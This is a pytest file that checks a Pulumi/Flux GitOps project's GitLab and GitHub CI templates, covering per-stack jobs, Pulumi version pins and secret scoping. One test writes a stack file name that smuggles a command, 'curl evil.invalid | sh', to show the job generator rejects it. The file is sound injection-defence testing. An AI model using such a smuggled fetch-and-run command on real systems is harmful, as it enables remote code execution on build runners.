"""The CI templates parse, run the README's commands, and preview every stack."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import tomllib
from pathlib import Path
from typing import Any

import yaml

from tests.conftest import PROJECT_DIR

STACK_JOBS = PROJECT_DIR / ".ci" / "stack_jobs.py"


def readme_commands() -> list[str]:
    """The commands in the README's ```sh blocks of the Quick start section."""
    text = (PROJECT_DIR / "README.md").read_text()
    quick = text.split("## Quick start", 1)[1].split("\n## ", 1)[0]
    return [
        line.strip()
        for block in re.findall(r"```sh\n(.*?)```", quick, re.S)
        for line in block.splitlines()
    ]


def test_readme_names_the_two_commands_and_ci_runs_the_test_one() -> None:
    assert readme_commands() == ["make quickstart", "make test"]
    assert (PROJECT_DIR / ".ci" / "run").read_text().rstrip().splitlines()[-1] == "make test"


def test_gitlab_pipeline_tests_then_generates_per_stack_jobs() -> None:
    doc = yaml.safe_load((PROJECT_DIR / ".gitlab-ci.yml").read_text())
    assert doc["test"]["script"] == ["make test"]
    assert "python3 .ci/stack_jobs.py gitlab" in doc["stack-jobs"]["script"][0]
    assert doc["stacks"]["trigger"]["include"] == [{"artifact": "stacks.yml", "job": "stack-jobs"}]
    assert doc["stacks"]["needs"] == ["test", "stack-jobs"]


def _run(project: Path, *args: str) -> str:
    return subprocess.run(
        [sys.executable, str(project / ".ci" / "stack_jobs.py"), *args],
        check=True,
        capture_output=True,
        text=True,
    ).stdout


def test_generated_child_pipeline_has_one_preview_job_per_stack_file(tmp_path: Path) -> None:
    project = tmp_path / "p"
    (project / ".ci").mkdir(parents=True)
    shutil.copy(STACK_JOBS, project / ".ci" / "stack_jobs.py")
    for name in ("pyproject.toml", "Pulumi.yaml", "Pulumi.k8s-01.yaml", "Pulumi.k8s-02.yaml"):
        shutil.copy(PROJECT_DIR / name, project / name)
    (project / "Pulumi.k8s-03.yaml").write_text("config: {}\n")  # a new cluster is a new stack file
    preview = yaml.safe_load(_run(project, "gitlab", "preview"))
    jobs = {k: v for k, v in preview.items() if not k.startswith(".") and k != "stages"}
    assert sorted(jobs) == ["preview:k8s-01", "preview:k8s-02", "preview:k8s-03"]
    for name, job in jobs.items():
        stack = name.split(":", 1)[1]
        assert job["variables"]["STACK"] == stack
        assert job["script"][-2] == '.venv/bin/fluxboot render "$STACK" --list > /dev/null'
        assert job["script"][-1] == 'pulumi preview --diff --non-interactive --stack "$STACK"'
        assert "when" not in job
    up = yaml.safe_load(_run(project, "gitlab", "up"))
    assert up["up:k8s-02"]["when"] == "manual"
    assert up["up:k8s-02"]["script"][-1] == 'pulumi up --yes --non-interactive --stack "$STACK"'
    assert json.loads(_run(project, "github")) == ["k8s-01", "k8s-02", "k8s-03"]


def test_github_workflow_previews_each_stack_on_pull_requests() -> None:
    doc = yaml.safe_load((PROJECT_DIR / ".github" / "workflows" / "flux-gitops.yml").read_text())
    jobs = doc["jobs"]
    assert [s.get("run") for s in jobs["test"]["steps"] if "run" in s] == ["make test"]
    (listing,) = [s for s in jobs["stacks"]["steps"] if s.get("id") == "list"]
    assert "stack_jobs.py github" in listing["run"]
    for name, command in (("preview", "pulumi preview --diff"), ("up", "pulumi up --yes")):
        job = jobs[name]
        assert job["needs"] == ["test", "stacks"]
        assert job["strategy"]["matrix"]["stack"] == "${{ fromJSON(needs.stacks.outputs.stacks) }}"
        runs = [s["run"] for s in job["steps"] if "run" in s]
        assert runs[-2].startswith(".venv/bin/fluxboot render") and runs[-1].startswith(command)
    assert jobs["preview"]["if"] == "github.event_name == 'pull_request'"
    assert jobs["up"]["environment"] == "production"


def test_pulumi_uses_the_virtualenv_the_makefile_builds() -> None:
    """Dynamic providers (Git writer, uninstall hook, deploy key) import `components` from it."""
    project = yaml.safe_load((PROJECT_DIR / "Pulumi.yaml").read_text())
    assert project["name"] == "flux-gitops"
    assert project["runtime"]["name"] == "python"
    venv = project["runtime"]["options"]["virtualenv"]
    assert re.search(
        rf"^VENV\s+\?=\s+{re.escape(venv)}$", (PROJECT_DIR / "Makefile").read_text(), re.M
    )
    assert (PROJECT_DIR / "requirements.txt").read_text().splitlines()[-1] == "-e ."


def _child(mode: str) -> dict[str, Any]:
    loaded = yaml.safe_load(_run(PROJECT_DIR, "gitlab", mode))
    assert isinstance(loaded, dict)
    return loaded


def _workflow() -> dict[str, Any]:
    loaded = yaml.safe_load((PROJECT_DIR / ".github" / "workflows" / "flux-gitops.yml").read_text())
    assert isinstance(loaded, dict)
    return loaded


def test_jobs_install_the_pulumi_cli_the_program_is_tested_with() -> None:
    """Not whatever get.pulumi.com or pulumi/actions call latest: the SDK's release, also the
    toolchain's; a runner that has exactly that CLI (the local shell executor) installs nothing."""
    sdk = re.search(r'"pulumi==([\d.]+)"', (PROJECT_DIR / "pyproject.toml").read_text())
    assert sdk is not None
    toolchain_pins = tomllib.loads(
        (PROJECT_DIR / "tests" / "e2e" / "toolchain" / "pins.toml").read_text()
    )
    assert toolchain_pins["pulumi"]["version"] == f"v{sdk.group(1)}"
    assert _run(PROJECT_DIR, "pulumi-version").strip() == sdk.group(1)
    for mode in ("preview", "up"):
        template = _child(mode)[".pulumi"]
        assert template["variables"]["PULUMI_VERSION"] == sdk.group(1)
        (install,) = [line for line in template["before_script"] if "get.pulumi.com" in line]
        assert install.startswith('if [ "$(pulumi version 2> /dev/null)" != "v$PULUMI_VERSION" ]')
        assert 'sh -s -- --version "$PULUMI_VERSION"' in install
    jobs = _workflow()["jobs"]
    assert jobs["stacks"]["outputs"]["pulumi-version"] == "${{ steps.list.outputs.pulumi-version }}"
    (listing,) = [s for s in jobs["stacks"]["steps"] if s.get("id") == "list"]
    assert "stack_jobs.py pulumi-version" in listing["run"]
    # tomllib: the job runs on the Python the project needs, not the image's default python3
    setup = [s for s in jobs["stacks"]["steps"] if s.get("uses", "").startswith("actions/setup-")]
    assert setup == [{"uses": "actions/setup-python@v5", "with": {"python-version": "3.11"}}]
    for name in ("preview", "up"):
        (action,) = [s for s in jobs[name]["steps"] if s.get("uses", "").startswith("pulumi/")]
        assert action["with"] == {"pulumi-version": "${{ needs.stacks.outputs.pulumi-version }}"}


def test_apt_get_runs_only_where_make_or_git_is_missing() -> None:
    """python:3.11 has both; a shell executor (not root) must not need apt-get."""
    scripts = [
        yaml.safe_load((PROJECT_DIR / ".gitlab-ci.yml").read_text())["test"]["before_script"],
        _child("preview")[".pulumi"]["before_script"],
    ]
    for script in scripts:
        (line,) = [s for s in script if "apt-get" in s]
        assert line.startswith("command -v make > /dev/null && command -v git > /dev/null || {")


def test_pulumi_secrets_reach_only_the_jobs_that_run_pulumi() -> None:
    """`make test` runs the merge request's code: it gets no backend token or passphrase."""
    doc = _workflow()
    secret_names = {"PULUMI_BACKEND_URL", "PULUMI_ACCESS_TOKEN", "PULUMI_CONFIG_PASSPHRASE"}
    assert not secret_names & set(doc.get("env") or {})
    for name, job in doc["jobs"].items():
        names = set(job.get("env") or {}) & secret_names
        assert names == (secret_names if name in ("preview", "up") else set()), name
        if name in ("preview", "up"):
            for key in secret_names:
                assert job["env"][key] == "${{ secrets." + key + " }}"


def test_a_stack_name_never_becomes_code(tmp_path: Path) -> None:
    """Stack files come with merge requests; their names reach YAML and shell scripts."""
    project = tmp_path / "p"
    (project / ".ci").mkdir(parents=True)
    shutil.copy(STACK_JOBS, project / ".ci" / "stack_jobs.py")
    shutil.copy(PROJECT_DIR / "pyproject.toml", project / "pyproject.toml")
    (project / "Pulumi.k8s-01.yaml").write_text("config: {}\n")
    (project / 'Pulumi.x"; curl evil.invalid | sh; ".yaml').write_text("config: {}\n")
    for args in (("gitlab", "preview"), ("github",)):
        proc = subprocess.run(
            [sys.executable, str(project / ".ci" / "stack_jobs.py"), *args],
            capture_output=True,
            text=True,
        )
        assert proc.returncode != 0 and proc.stdout == ""
        assert "is not a stack name" in proc.stderr
    # GitHub: the matrix value reaches the steps as $STACK, never spliced into a script
    for name in ("preview", "up"):
        job = _workflow()["jobs"][name]
        assert job["env"]["STACK"] == "${{ matrix.stack }}"
        for step in job["steps"]:
            assert "${{" not in step.get("run", ""), step


def test_the_makefile_hands_on_an_absolute_manifest_mirror(tmp_path: Path) -> None:
    """`pulumi` runs the program from copies elsewhere (e2e, bench): a relative
    FLUXBOOT_MANIFESTS_DIR exported by the Makefile pointed nowhere there."""
    shared = tmp_path / "shared" / "flux"
    shared.mkdir(parents=True)
    checkout = tmp_path / "checkout"
    checkout.mkdir()
    shutil.copy(PROJECT_DIR / "Makefile", checkout / "Makefile")
    # as a user runs it, also when the suite itself runs under make (the CI job's `make test`)
    outer = ("FLUXBOOT_MANIFESTS_DIR", "MAKEFLAGS", "MFLAGS", "MAKELEVEL")
    env = {k: v for k, v in os.environ.items() if k not in outer}
    shown = subprocess.run(
        [
            "make",
            "-s",
            "--no-print-directory",
            "--eval",
            'show: ; @echo "$(FLUXBOOT_MANIFESTS_DIR)"',
            "show",
        ],
        cwd=checkout,
        capture_output=True,
        text=True,
        env=env,
        check=True,
    ).stdout.strip()
    assert shown == str(shared.resolve())
